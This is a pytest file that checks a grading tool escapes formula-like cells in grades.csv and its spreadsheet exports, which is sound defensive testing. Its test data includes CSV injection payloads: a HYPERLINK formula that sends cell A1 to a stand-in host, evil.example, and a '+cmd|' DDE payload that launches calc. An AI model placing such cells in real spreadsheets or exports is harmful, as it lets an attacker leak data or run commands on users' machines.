"""What class mode hands to spreadsheets and gradebooks: grades.csv and the exports.

Class mode runs with a fake grader here (each student scores what their folder's
``score.txt`` says), so what comes out is the files' layout and nothing else.
"""

from __future__ import annotations

import csv
import sys
from pathlib import Path

import pytest

from grader.runners import classroom, sheets

FAKE = r'''
import json, sys
from pathlib import Path
sub = Path(sys.argv[1])
points = float((sub / "score.txt").read_text()) if (sub / "score.txt").is_file() else 3.0
Path(sys.argv[2]).write_text(json.dumps({"score": points + 4, "max_score": 7, "tests": [
    {"name": "causal_mask (chapter 1)", "score": points, "max_score": 3, "output": "ok"},
    {"name": "attention (chapter 2)", "score": 4, "max_score": 4, "output": "ok"}]}))
'''
EXERCISES = ("causal_mask", "attention")
HOSTILE = '=HYPERLINK("https:\\\\evil.example?"&A1,"open")'  # a folder name: no slash


@pytest.fixture
def fake(tmp_path):
    script = tmp_path / "fake_grader.py"
    script.write_text(FAKE)
    return lambda sub, results, seed, extra: [sys.executable, str(script), str(sub), str(results)]


def hand_in(subs: Path, name: str, points: float = 3.0) -> None:
    (subs / name).mkdir(parents=True)
    (subs / name / "ex.py").write_text("def causal_mask(n):\n    pass\n")
    (subs / name / "score.txt").write_text(str(points))


def run_class(tmp_path: Path, fake, *args: str) -> Path:
    out = tmp_path / "out"
    assert classroom.main([str(tmp_path / "subs"), "--out", str(out), "--seed", "1", "--no-progress",
                           "--no-report", *args], command=fake, exercises=EXERCISES) == 0
    return out


def cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("text", [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_a_spreadsheet_would_run_is_escaped(text):
    assert sheets.cell(text) == "'" + text


@pytest.mark.parametrize("text", ["alice", "-0.5", "12", "", "a=b"])
def test_names_and_numbers_stay_as_they_are(text):
    assert sheets.cell(text) == text


def test_a_folder_named_like_a_formula_is_text_in_grades_csv(tmp_path, fake):
    hand_in(tmp_path / "subs", HOSTILE)
    hand_in(tmp_path / "subs", "bob")
    rows = cells(run_class(tmp_path, fake) / "grades.csv")
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE, "bob"]
    assert not any(c.startswith(sheets.FORMULA_STARTS) for r in rows for c in r if not _number(c))


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
